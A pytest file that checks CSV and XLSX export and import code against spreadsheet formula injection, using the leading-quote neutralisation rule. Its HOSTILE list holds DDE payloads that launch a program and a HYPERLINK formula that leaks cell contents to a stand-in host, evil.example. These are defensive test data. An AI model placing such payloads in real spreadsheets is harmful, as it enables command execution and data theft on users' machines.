"""CSV formula injection: exports neutralise a cell a spreadsheet would run (the OWASP rule,
a leading single quote), imports keep what was sent and read an export back as it was."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from security.assembly import API, admin_credentials, assemble, token_of
from smolny.adapters.formulas import neutralised, restored
from smolny.adapters.spreadsheet_writer import write_table
from smolny.adapters.spreadsheets import read_table
from smolny.service.app import Smolny
from smolny.web.app import create_app

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
]


@pytest.mark.parametrize("cell", [*HOSTILE, "\t=1+1", "\r=1+1", "=", "'=already"])
def test_a_cell_a_spreadsheet_would_run_is_written_after_a_quote(cell: str) -> None:
    written = neutralised(cell)
    assert written == "'" + cell  # ("'=already" gets one more, to read back unchanged)
    assert restored(written) == cell


@pytest.mark.parametrize("cell", ["Lenin", "O'Brien", "'t Hooft", "", "1", "yes"])
def test_an_ordinary_cell_is_written_as_it_is(cell: str) -> None:
    assert neutralised(cell) == cell and restored(cell) == cell


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_file_read_back_is_what_was_written(fmt: str) -> None:
    rows = [[name, "x"] for name in HOSTILE]
    data = write_table(["name", "faction"], rows, fmt)
    if fmt == "csv":
        cells = list(csv.reader(io.StringIO(data.decode())))[1:]
    else:
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        cells = [list(r) for r in sheet.iter_rows(values_only=True)][1:]
    assert all(row[0].startswith("'") for row in cells), cells
    table = read_table(data, "x")
    assert [row["name"] for _, row in table.rows] == HOSTILE


@pytest.fixture
def client(sqlite_service: Smolny) -> Iterator[tuple[TestClient, dict[str, str]]]:
    assemble(sqlite_service)
    with TestClient(create_app(sqlite_service)) as client:
        token = token_of(client, **admin_credentials())
        yield client, {"Authorization": f"Bearer {token}"}


def test_hostile_names_are_kept_and_exported_neutralised(
    client: tuple[TestClient, dict[str, str]], sqlite_service: Smolny
) -> None:
    api, admin = client
    sent = [{"name": name} for name in HOSTILE]
    answer = api.post(f"{API}/bodies/congress/delegates", json={"delegates": sent}, headers=admin)
    assert answer.status_code == 201, answer.text
    names = {d.name for d in sqlite_service.state.delegates.values()}
    assert set(HOSTILE) <= names  # kept as sent
    exported = api.get(f"{API}/bodies/congress/delegates.csv").text
    for row in list(csv.reader(io.StringIO(exported)))[1:]:
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
    workbook = api.get(f"{API}/bodies/congress/delegates.xlsx").content
    sheet = load_workbook(io.BytesIO(workbook)).worksheets[0]
    for row in sheet.iter_rows(values_only=True):
        assert all(str(cell or "")[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)


def test_an_import_keeps_what_was_sent(
    client: tuple[TestClient, dict[str, str]], sqlite_service: Smolny
) -> None:
    # a leading tab before a formula is not stripped into the formula itself
    api, admin = client
    sent = {"delegates": [{"name": "\t=1+1"}, {"name": "  Anna Ivanova  "}]}
    answer = api.post(f"{API}/bodies/congress/delegates", json=sent, headers=admin)
    assert answer.status_code == 201, answer.text
    names = [d.name for d in sqlite_service.state.delegates.values()]
    assert "\t=1+1" in names and "=1+1" not in names
    assert "Anna Ivanova" in names  # spaces around an ordinary value are not part of it
    before = sqlite_service.state.seq
    roster = b'name\n"\t=2+2"\n'
    answer = api.post(
        f"{API}/bodies/congress/delegates/import",
        content=roster,
        headers={**admin, "Content-Type": "text/csv"},
    )
    assert answer.status_code == 422, answer.text  # a tab in a cell: refused, not stripped
    assert "control character" in answer.text and sqlite_service.state.seq == before
